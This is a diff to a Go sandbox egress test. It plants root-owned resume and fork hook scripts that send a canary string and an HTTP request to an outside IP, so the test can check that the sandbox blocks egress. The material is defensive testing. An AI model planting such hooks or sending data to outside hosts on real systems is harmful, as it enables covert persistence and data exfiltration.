@@ -309,6 +309,12 @@ func TestEgressStates(t *testing.T) {
 	h.inLab(n, "create", "--name", "s", "--policy", "lab")
 	h.inLab(n, "cp", dir, "s:/tmp/lab")
 	n.signs()
+	// Hooks of the image's are tried by what the sandbox is told that it has come back (B22). What they may reach says that they ran.
+	h.inLab(n, "exec", "-u", "root", "s", "--", "sh", "-ec", `for d in resume.d fork.d; do
+	mkdir -p /etc/warren/hooks/$d
+	printf '#!/bin/sh\n/tmp/lab/attack send 11.6.22.20:443 canary-b22-hook\n/tmp/lab/attack send %s:80 "GET / HTTP/1.0\r\nHost: %s\r\n\r\n"\n' "$1" "$1" >/etc/warren/hooks/$d/10-attack
+	chmod 755 /etc/warren/hooks/$d/10-attack
+done`, "sh", egress.Plain)
 	// One process sends all the while, also where the test waits for the next state.
 	h.inLab(n, "exec", "-d", "-u", "root", "s", "--", "/tmp/lab/attack", "spray")
 
@@ -358,6 +364,11 @@ func TestEgressStates(t *testing.T) {
 	} {
 		t.Run(s.name, func(t *testing.T) {
 			s.enter()
+			if s.name == "resumed" || s.name == "forked" {
+				if log := h.inLab(n, "exec", "-u", "root", s.sandbox, "--", "cat", "/run/warren/hooks.log"); !strings.Contains(log, egress.Plain+" is here") {
+					t.Errorf("B22: the hook that attacks did not run: %q", log)
+				}
+			}
 			attack(t, s.name, s.sandbox)
 			// It went on.
 			before := h.inLab(n, "exec", s.sandbox, "--", "cat", "/tmp/sprayed")
